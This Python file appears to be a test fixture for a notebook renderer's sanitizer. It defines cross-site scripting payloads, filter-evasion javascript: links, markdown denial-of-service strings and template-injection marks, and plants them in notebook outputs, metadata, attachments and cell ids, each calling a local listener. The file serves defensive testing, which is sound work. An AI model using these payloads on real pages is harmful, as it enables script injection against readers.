"""Tricks on whoever reads the page: scripts in outputs, in prose and in the file.

A script that runs calls the listener.
"""

from __future__ import annotations

from corpus.forging import Hostile, Notebook, Place, add, change, find, runs, writes

CALL = "new Image().src='http://127.0.0.1:PORT/NAME'"
TAGS = [
    f"<script>{CALL}</script>",
    f'<img src="x" onerror="{CALL}">',
    f'<svg onload="{CALL}"></svg>',
    f'<details open ontoggle="{CALL}">more</details>',
    f'<body onload="{CALL}">',
    f'<input autofocus onfocus="{CALL}">',
    "<iframe src=\"javascript:parent.fetch('http://127.0.0.1:PORT/NAME')\"></iframe>",
    f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
    '<object data="http://127.0.0.1:PORT/NAME"></object>',
    '<embed src="http://127.0.0.1:PORT/NAME">',
    '<link rel="stylesheet" href="http://127.0.0.1:PORT/NAME">',
    "<style>@import 'http://127.0.0.1:PORT/NAME';</style>",
    '<meta http-equiv="refresh" content="0; url=http://127.0.0.1:PORT/NAME">',
    '<base href="http://127.0.0.1:PORT/NAME/">',
    '<form action="http://127.0.0.1:PORT/NAME"><input type="submit"></form>',
    '<video poster="http://127.0.0.1:PORT/NAME"></video>',
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"</textarea></pre></div></script><script>{CALL}</script>",
    f"<!--><script>{CALL}</script-->",
    f"<?php ?><script\x0c>{CALL}</script\t\n>",
]
LINKS = [
    "[a](javascript:CALL)",
    "[a](JaVaScRiPt:CALL)",
    "[a](javascript&#58;CALL)",
    "[a](javascript&colon;CALL)",
    "[a](&#106;avascript:CALL)",
    "[a](java&Tab;script:CALL)",
    "[a](<java\tscript:CALL>)",
    "[a](<\x01javascript:CALL>)",
    "[a](java\x01script:CALL)",
    "[a](java\x1b[0mscript:CALL)",
    "[a](vbscript:CALL)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:CALL>",
    "[a][1]\n\n[1]: javascript:CALL",
    "$\\href{javascript:CALL}{x}$",
    "$\\href{java\x01script:CALL}{x}$",
    "$$\\href{java\nscript:CALL}{x}$$",
    "$ &#92;href{javascript:CALL}{x} $",
    "$ \\\\href{javascript:CALL}{x} $",
    "&#36;\\href{javascript:CALL}{x}&#36;",
]
# What a filter takes out of the middle may leave the thing that it looked for.
SPLIT = ["\x01", "\x1b[0m", "\x7f", "\x9f", "\x1b[0\x01m", "\x00"]

PROSE: list[Hostile] = [
    writes("prose-tags", "Writes tags that run scripts.", "\n\n".join(TAGS)),
    writes(
        "prose-split-tags",
        "Writes tags with characters in them that are removed later.",
        "\n\n".join(
            f"<{part}script>{CALL}<{part}/script>\n\n<{part}img src=x onerror={CALL}>"
            for part in SPLIT
        ),
    ),
    writes(
        "prose-links",
        "Writes links that run scripts.",
        "\n\n".join(LINKS).replace("CALL", f"void({CALL})".replace(" ", "%20")),
    ),
    writes(
        "prose-picture",
        "Shows a picture from elsewhere, which tells who reads it and when.",
        "![a](http://127.0.0.1:PORT/NAME)\n\n![b][1]\n\n"
        "[1]: http://127.0.0.1:PORT/NAME\n\n![c](//127.0.0.1:PORT/NAME)",
    ),
    writes(
        "prose-brackets",
        "Writes prose that takes a reader of markdown very long.",
        "[" * 20_000 + "\n\n" + "*a **a " * 5_000 + "\n\n" + "> " * 5_000,
    ),
    writes(
        "prose-template",
        "Writes the marks of templates and of the page itself.",
        "{{ 7 * 7 }} {% raw %} ]]> --> </body></html> ${7*7} \ufeff\u202e\u2066",
    ),
]

BUNDLE = "\n".join(TAGS).replace("'", '"')
SHOWN = f"BUNDLE = '''{BUNDLE}'''.replace('PORT', str(PORT)).replace('NAME', NAME)\n\n"
OUTPUTS: list[Hostile] = [
    runs(
        "shown-html",
        "Shows HTML, JavaScript, SVG, LaTeX, markdown and widgets.",
        SHOWN
        + """
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

for kind in (HTML, Javascript, Latex, Markdown):
    display(kind(BUNDLE))
display({name: BUNDLE for name in (
    "text/html", "image/svg+xml", "application/javascript", "text/latex",
    "application/vnd.jupyter.widget-view+json", "application/json", "text/plain",
    "application/vnd.plotly.v1+json", "application/pdf", "text/markdown")}, raw=True)
""",
    ),
    runs(
        "shown-text",
        "Prints tags, and shows them as plain text.",
        SHOWN
        + """
from IPython.display import display

print(BUNDLE)
display({"text/plain": BUNDLE}, raw=True)
print("\\x1b]8;;javascript:alert(1)\\x07a\\x1b]8;;\\x07 \\x1b[31m" + BUNDLE)


class Named:
    def __repr__(self):
        return BUNDLE


display(Named())
""",
    ),
    runs(
        "shown-error",
        "Raises errors whose names and texts are tags.",
        SHOWN + "\nraise type(BUNDLE.replace('\\0', ''), (Exception,), {})(BUNDLE)\n",
    ),
    runs(
        "shown-pictures",
        "Shows pictures that are none, with sizes that are scripts.",
        SHOWN
        + """
import base64

from IPython.display import display

head = b"\\x89PNG\\r\\n\\x1a\\n"
texts = [base64.b64encode(one + BUNDLE.encode()).decode() for one in (b"", head)]
odd = [BUNDLE, 'iVBORw0KGgo="><script src=x>', "%%%", 7, None, ["iVBORw0KGgo="]]
for kind in ("image/png", "image/jpeg", "image/gif", "image/svg+xml"):
    for content in texts + odd:
        size = {"width": f'1"><script>{BUNDLE}</script>', "alt": BUNDLE}
        display({kind: content}, metadata={kind: size}, raw=True)
""",
    ),
    runs(
        "comment-html",
        "Writes tags into the code itself.",
        "# " + BUNDLE.replace("\n", "\n# "),
    ),
]


def _free_cells(notebook: Notebook, place: Place) -> None:
    for number, kind in enumerate(("markdown", "raw")):
        text = BUNDLE.replace("PORT", str(place.port)).replace("NAME", "free-cells")
        cell = {"cell_type": kind, "id": f"free-{number}", "source": text}
        add(notebook, "title", cell | {"metadata": {"raw_mimetype": "text/html"}})


def _attachment(notebook: Notebook, place: Place) -> None:
    cell = find(notebook, "limits")
    cell["source"] = "![a](attachment:a.svg) <a href='attachment:a.html'>a</a>"
    content = f"<svg onload=\"new Image().src='http://127.0.0.1:{place.port}/a'\"/>"
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": content, "text/html": content},
        "a.html": {"text/html": content},
    }


def _metadata(notebook: Notebook, place: Place) -> None:
    text = BUNDLE.replace("PORT", str(place.port)).replace("NAME", "metadata")
    notebook["metadata"] |= {"title": text, "authors": [{"name": text}]}
    language = {"name": "python", "version": text, "pygments_lexer": text}
    notebook["metadata"]["language_info"] = language
    notebook["metadata"]["kernelspec"] = {"name": text, "display_name": text}
    state = {"state": {"a": {"model_name": text, "state": {"value": text}}}}
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": state | {"version_major": 2}
    }
    for cell in notebook["cells"]:
        cell["metadata"] |= {"tags": [text], "name": text, "title": text}


def _names(notebook: Notebook, place: Place) -> None:
    for number, cell in enumerate(notebook["cells"]):
        if not cell["metadata"].get("nbgrader"):
            cell["id"] = f'"><script src="http://127.0.0.1:{place.port}/{number}">'


FILES: list[Hostile] = [
    change("page-free-cells", "Adds text cells that run scripts.", _free_cells),
    change("page-attachment", "Attaches pages and drawings with scripts.", _attachment),
    change("page-metadata", "Writes tags into all metadata.", _metadata),
    change("page-names", "Writes tags into the cells' names.", _names),
]

PAGE = PROSE + OUTPUTS + FILES
